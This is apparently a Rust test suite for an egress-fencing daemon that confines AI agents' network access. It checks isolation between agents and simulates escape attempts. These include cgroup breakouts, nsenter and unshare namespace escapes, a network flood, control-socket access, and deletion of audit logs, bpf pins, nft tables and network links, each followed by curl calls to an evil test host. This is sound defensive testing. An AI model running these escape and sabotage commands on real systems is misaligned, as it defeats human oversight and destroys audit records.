//! Agents beside each other, and agents that try to leave their own fence.

use crate::{
    AGENT,
    attack::{stops, stops_only_fenced, works},
    fence,
    places::{ALT, EVIL, OK},
    policies::COMMON,
    program,
};

#[test]
fn two_agents_with_different_policies_differ_on_one_destination() {
    let fence = fence(TWO);
    let fetch = "curl -sSf -m 5 https://www.{host}/";
    let flow = "curl -s -m 2 https://{mark}.{host}/";
    works(&fence.agent("left"), OK, &[fetch]);
    works(&fence.agent("right"), ALT, &[fetch]);
    stops(&fence.agent("left"), ALT, &[flow]);
    stops(&fence.agent("right"), OK, &[flow]);
}

#[test]
fn what_one_agent_was_granted_is_of_no_use_to_another() {
    let fence = fence(TWO);
    // Looked up and used by `left`, while `right` goes to the very address.
    let holder = fence.agent("left").spawn(&["bash", "-c", "curl -s https://www.ok.test/; read -r"]);
    program::poll("the first fetch", || holder.stdout().contains("hello").then_some(()));
    let borrowed = [
        "curl -sk -m 2 --resolve {mark}.{host}:443:{v4} https://{mark}.{host}/",
        "curl -sk -m 2 --resolve {mark}.{host}:443:[{v6}] https://{mark}.{host}/",
    ];
    stops(&fence.agent("right"), OK, &borrowed);
}

#[test]
fn agents_run_beside_each_other_under_one_name() {
    let fence = fence(COMMON);
    let script = "curl -sSf -m 5 https://ok.test/ && read -r; curl -sSf -m 5 https://ok.test/";
    let mut both = [(); 2].map(|()| fence.agent(AGENT).spawn(&["bash", "-c", script]));
    for agent in &both {
        program::poll("the first fetch", || agent.stdout().contains("hello").then_some(()));
    }
    for agent in &mut both {
        use std::io::Write;
        writeln!(agent.stdin()).expect("the agent reads");
    }
    for agent in both {
        let outcome = agent.finish();
        assert_eq!(outcome.stdout.matches("hello").count(), 2, "{outcome:#?}");
    }
}

#[test]
fn agents_under_one_name_have_one_policy_and_denials_of_their_own() {
    let fence = fence(TWO);
    let script = |denied: &str| {
        format!(
            "curl -sSf -m 5 https://www.ok.test/ || exit 9; dig +time=1 +tries=1 {denied}.evil.test; \
             curl -s -m 2 https://www.alt.test/; echo waiting; read -r; exit 0"
        )
    };
    let names = ["one", "other"];
    let mut both = names.map(|denied| fence.agent("left").spawn(&["bash", "-c", &script(denied)]));
    for agent in &mut both {
        program::poll("the denials", || {
            (agent.stdout().contains("waiting\n") || agent.has_ended()).then_some(())
        });
    }
    for agent in &mut both {
        use std::io::Write;
        writeln!(agent.stdin()).expect("the agent reads");
    }
    for (agent, (own, of_the_other)) in both.into_iter().zip([(names[0], names[1]), (names[1], names[0])]) {
        let outcome = agent.finish();
        let tells = |name: &str| outcome.stderr.contains(&format!("{name}.evil.test"));
        assert!(outcome.succeeded(), "the policy of its name serves each: {outcome:#?}");
        assert!(tells(own), "the summary should say what was denied: {outcome:#?}");
        assert!(!tells(of_the_other), "the summary says what another agent was denied: {outcome:#?}");
    }
}

#[test]
fn the_resolver_and_proxy_of_one_agent_serve_no_other() {
    let fence = fence(TWO);
    let holder = fence.agent("left").spawn(&["bash", "-c", "curl -s https://www.ok.test/; read -r"]);
    program::poll("the first fetch", || holder.stdout().contains("hello").then_some(()));
    let mark = crate::sniffer::mark();
    for trick in ["every_resolver", "every_proxy"] {
        let script = format!("/usr/bin/python3 {} {trick} {mark}.ok.test", crate::attack::TRICKS);
        let (outcome, frames) =
            crate::attack::violations(fence.lab(), &mark, || fence.agent("right").run(&script));
        assert!(frames.is_empty(), "`{trick}` leaked {frames:#?}");
        assert!(!outcome.succeeded(), "`{trick}` was served: {outcome:#?}");
    }
}

#[test]
fn a_child_cgroup_is_fenced_like_its_parent() {
    let fence = fence(COMMON);
    // A cgroup that cannot be made is as good: then there is nothing to hide in.
    let child = "own=$(cut -d: -f3- < <(grep ^0:: /proc/self/cgroup)); \
                 for mount in $(grep -w cgroup2 /proc/mounts | cut -d' ' -f2); do \
                 child=$mount$own/child$$; \
                 bash -c \"mkdir $child && echo \\$\\$ > $child/cgroup.procs; curl -s -m 2 http://{v4}/{mark}\"; \
                 rmdir $child; done 2> /dev/null";
    stops(&fence.agent(AGENT), EVIL, &[child]);
}

#[test]
fn one_agents_flood_leaves_the_others_untouched() {
    let fence = fence(COMMON);
    let flood =
        "while :; do echo x > /dev/udp/10.99.0.66/9000; echo x > /dev/tcp/10.99.0.66/9000; done 2> /dev/null";
    let _flooder = fence.agent("flooder").spawn(&["bash", "-c", flood]);
    program::poll("the flood", || (!fence.agent("flooder").denials().is_empty()).then_some(()));
    let bystander = fence.agent("bystander");
    for fetch in
        ["curl -sSf -m 5 https://{host}/", "curl -sSf -m 5 http://{host}/", "{trick} tcp {v4} 9000 {mark}"]
    {
        works(&bystander, OK, &[fetch]);
    }
    stops(&bystander, EVIL, &["curl -sk -m 2 https://{mark}.{host}/"]);
    bystander.denial("the bystander", |record| record["destination"]["name"] != serde_json::Value::Null);
    assert!(fence.ctl(&["status", "-q"]).succeeded(), "the daemon answers");
}

#[test]
fn no_agent_moves_to_another_cgroup() {
    let fence = fence(COMMON);
    let escape = "for mount in $(grep -w cgroup2 /proc/mounts | cut -d' ' -f2); do \
                  (mount -o remount,rw,bind $mount; umount -l $mount; \
                  echo 0 > $mount/cgroup.procs; echo $BASHPID > $mount/cgroup.procs) 2> /dev/null; \
                  curl -s -m 2 http://{v4}/{mark}; done";
    stops(&fence.agent(AGENT), EVIL, &[&format!("unshare --mount bash -c '{escape}' || ({escape})")]);
}

#[test]
fn no_child_of_an_agent_is_born_in_another_cgroup() {
    let fence = fence(COMMON);
    let agent = fence.agent(AGENT).with(&["--mode", "cgroup"]);
    stops(&agent, EVIL, &["{trick} doors.born_elsewhere {v4} 9000 {mark}"]);
}

#[test]
fn no_agent_enters_another_namespace() {
    let fence = fence(COMMON);
    let escapes = [
        "nsenter --net=/proc/1/ns/net true; curl -s -m 2 http://{v4}/{mark}",
        "unshare --user --map-root-user bash -c 'curl -s -m 2 http://{v4}/{mark}'",
        "unshare --user --map-root-user {trick} packet {v4} {mark}; curl -s -m 2 http://{v4}/{mark}",
    ];
    stops(&fence.agent(AGENT), EVIL, &escapes);
}

#[test]
fn no_agent_reaches_the_control_socket() {
    let fence = fence(COMMON);
    let (egressctl, socket) = (fence.egressctl().display().to_string(), fence.socket().display().to_string());
    for verb in ["status -q", "reload", "agents", "run -- true", "run --agent other -- true", "tail -n 1"] {
        let script = format!("{egressctl} --socket {socket} {verb}");
        let outcome = fence.agent(AGENT).run(&script);
        assert!(!outcome.succeeded(), "an agent could do `{verb}`: {outcome:#?}");
    }
    let script = format!("curl -sSf -m 2 --unix-socket {socket} http://egressd/v1/status");
    let outcome = fence.agent(AGENT).run(&script);
    assert!(!outcome.succeeded(), "an agent could talk to the control socket: {outcome:#?}");
    assert!(fence.ctl(&["status", "-q"]).succeeded(), "others still can");
}

#[test]
fn no_agent_removes_what_holds_it() {
    let fence = fence(COMMON);
    let (name, folder) = (fence.lab().name(), fence.lab().folder().display().to_string());
    let vandals = [
        format!("rm -rf {folder}/run/* {folder}/audit.jsonl"),
        format!("find {folder}/run/bpf /sys/fs/bpf -path '*{name}*' -delete"),
        format!("umount -l {folder}/run/bpf {folder}/run"),
        format!("nft list tables | grep {name} | xargs -r -L 1 nft delete"),
        "ip link set wan down; ip address flush dev wan".to_owned(),
    ];
    for vandal in vandals {
        let flow = format!("({vandal}) 2> /dev/null; curl -s -m 2 http://{{v4}}/{{mark}}");
        stops_only_fenced(&fence.agent(AGENT), EVIL, &[&flow]);
        works(&fence.agent(AGENT), OK, &["curl -sSf -m 5 https://{host}/"]);
    }
}

const TWO: &str = "
version: 1
agents:
  left:
    rules:
      - {host: '*.ok.test', private: true}
  right:
    rules:
      - {host: '*.alt.test', private: true}
";
